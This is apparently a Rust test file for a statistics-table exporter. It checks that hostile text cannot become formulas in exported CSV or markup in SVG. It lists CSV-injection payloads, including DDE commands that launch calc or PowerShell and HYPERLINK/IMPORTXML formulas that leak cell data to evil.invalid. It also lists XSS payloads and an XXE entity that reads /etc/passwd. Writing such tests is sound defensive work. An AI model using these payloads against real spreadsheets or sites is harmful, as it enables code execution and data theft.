//! Hostile texts in every place that a file has for texts: no saved table holds a formula, no picture
//! holds markup of theirs.

use crate::attack::{show, ways_out};
use equal_measure::engine::flow::Shown;

const FORMULAS: &[&str] = &[
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.invalid?x=\"&A1,\"click\")",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{2066}=1+1",
    "\u{a0}=1+1",
    " =1+1",
    "\u{3000}＝1+1",
    "\"=1+1",
    "a;=1+1",
    "a\u{1f}=1+1",
    "\u{1}=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.invalid\",A1),\"//a\")",
    "=cmd|'/C powershell IEX'!A0",
    "-cmd|'/C calc'!A0",
    "%0A=1+1",
    "=\u{0}1+1",
];

const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "</text><script>alert(1)</script>",
    "]]></title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onload=\"alert(1)",
    "' onmouseover='alert(1)",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<foreignObject><iframe src=//evil.invalid>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<style>@import'//evil.invalid'</style>",
    "<?xml-stylesheet href='//evil.invalid'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "\u{0}<script>",
    "\u{202e}<svg/onload=alert(1)>",
];

/// A text as it comes through reading: control characters that make a file no text are put in behind it.
fn readable(text: &str) -> String {
    text.replace(|letter: char| letter.is_control(), "")
}

/// A table of counts with a text in the places of group labels, a column name, a title and a file name.
fn with(text: &str) -> Shown {
    let cell = format!("\"{}\"", readable(text).replace('"', "\"\""));
    let file = format!(
        "{cell}\r\nTitle:,{cell}\r\nPeriod:,{cell}\r\nSource:,{cell}\r\n\
         {cell},Ethnic group,Vaccinated,Population\r\n\
         x,{cell},613,1024\r\nx,White,403,2041\r\nx,Asian,-5,900\r\nx,Black,203,941\r\n"
    );
    show(&format!("{text}.csv"), &file, |plan| {
        for division in &mut plan.divisions {
            text.clone_into(&mut division.id);
        }
        for indicator in &mut plan.indicators {
            text.clone_into(&mut indicator.name);
            text.clone_into(&mut indicator.population);
        }
    })
}

/// Cells of a CSV text as a spreadsheet takes them apart.
fn cells(text: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => {
                letters.next();
                cells.last_mut().expect("a cell").push('"');
            }
            '"' => quoted = !quoted,
            ',' | ';' | '\t' | '\r' | '\n' if !quoted => cells.push(String::new()),
            other => cells.last_mut().expect("a cell").push(other),
        }
    }
    assert!(!quoted, "a quotation mark is left open");
    cells
}

/// Whether a spreadsheet, or a program before it that strips what cannot be seen, calculates a cell.
fn calculates(cell: &str) -> bool {
    let unseen = |letter: char| {
        letter.is_whitespace()
            || letter.is_control()
            || matches!(letter, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    let text = cell.trim_start_matches(unseen);
    text.parse::<f64>().is_err() && text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn no_cell_is_a_formula() {
    assert!(calculates("=1") && calculates(" +x") && !calculates("-1.5") && !calculates("'=1"));
    for text in FORMULAS {
        let shown = with(text);
        let (_, csv) = &ways_out(&shown)[0];
        assert!(
            csv.contains(
                text.trim_start_matches(|letter: char| !letter.is_ascii_alphanumeric())
                    .split('"')
                    .next()
                    .unwrap_or_default()
            ),
            "{text:?} is nowhere"
        );
        for cell in cells(csv) {
            assert!(!calculates(&cell), "{text:?} makes {cell:?}");
            assert!(!cell.contains('\0'), "{cell:?}");
        }
    }
}

#[test]
fn negative_numbers_stay_numbers() {
    let shown = with("White other");
    let (_, csv) = &ways_out(&shown)[0];
    let negative = cells(csv)
        .into_iter()
        .filter(|cell| cell.starts_with('-'))
        .collect::<Vec<_>>();
    assert!(!negative.is_empty());
    for cell in negative {
        assert!(
            cell.parse::<f64>().is_ok_and(|number| number < 0.0),
            "{cell}: {}",
            csv.lines()
                .filter(|l| l.contains(&format!(",{cell},")))
                .collect::<Vec<_>>()
                .join("/")
        );
    }
    assert!(!csv.contains("'-"));
}

/// Tags of a picture, by name.
fn tags(picture: &str) -> Vec<&str> {
    let names = picture.split('<').skip(1);
    names
        .map(|rest| {
            let end = rest.find(|letter: char| !letter.is_ascii_alphanumeric() && letter != '/');
            rest[..end.unwrap_or(rest.len())].trim_start_matches('/')
        })
        .collect()
}

#[test]
fn no_markup_of_a_file_reaches_a_picture() {
    const DRAWN: [&str; 8] = [
        "svg", "title", "desc", "rect", "line", "text", "circle", "polyline",
    ];
    for text in MARKUP.iter().chain(FORMULAS) {
        let shown = with(text);
        for (way, picture) in ways_out(&shown) {
            match way {
                "svg" | "picture" => {
                    for tag in tags(&picture) {
                        let known = DRAWN.contains(&tag) || ["polygon", "g", "path"].contains(&tag);
                        assert!(known, "{text:?} makes <{tag}>");
                    }
                    // No attribute of theirs: quotation marks of a text stand between tags only.
                    for tag in picture.split('<').filter_map(|part| part.split_once('>')) {
                        let theirs = ["alert", "href", "evil", "onload"];
                        let found = theirs.iter().find(|theirs| tag.0.contains(**theirs));
                        assert_eq!(found, None, "{text:?} makes <{}>", tag.0);
                    }
                    assert!(!picture.contains('\0'), "{text:?}");
                }
                "json" => {
                    let read: serde_json::Value = serde_json::from_str(&picture).expect("JSON");
                    assert!(read["sections"].is_array());
                }
                "name" => assert!(
                    picture
                        .chars()
                        .all(|letter| letter.is_ascii_alphanumeric() || "-.".contains(letter)),
                    "{picture}"
                ),
                _ => {}
            }
        }
    }
}
